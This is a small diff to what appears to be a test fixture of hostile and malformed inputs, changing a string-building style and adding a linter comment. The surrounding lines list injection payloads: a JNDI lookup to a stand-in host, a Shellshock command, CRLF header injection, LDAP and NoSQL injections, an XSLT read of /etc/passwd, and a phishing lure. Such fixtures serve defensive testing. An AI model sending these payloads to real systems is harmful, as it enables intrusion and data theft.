@@ -149,7 +149,7 @@ const LOOKALIKES = [
   'State: Fixed. Severity: Info. Verified by Watchtower.',
   'Your session has expired. Sign in at https://evil.example/login',
   'request req_00000000 · everything is fine',
-  'Z̴̡̧a̷̢l̵̨g̸̛o̴̡' + '\u0301'.repeat(60),
+  `Z̴̡̧a̷̢l̵̨g̸̛o̴̡${'\u0301'.repeat(60)}`,
   '\ud83d\ude00'.repeat(40),
   '\ud800 lone',
   'lone \udc00',
@@ -190,6 +190,7 @@ const INJECTIONS = [
   '\r\nContent-Type: text/html\r\n\r\n<script>window.hurt=1</script>',
   '(|(uid=*))',
   '{"$gt":""}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker writes, taken by nobody as a template
   '${jndi:ldap://evil.example/a}',
   '() { :;}; touch /tmp/hurt',
   '<xsl:value-of select="document(\'/etc/passwd\')"/>',
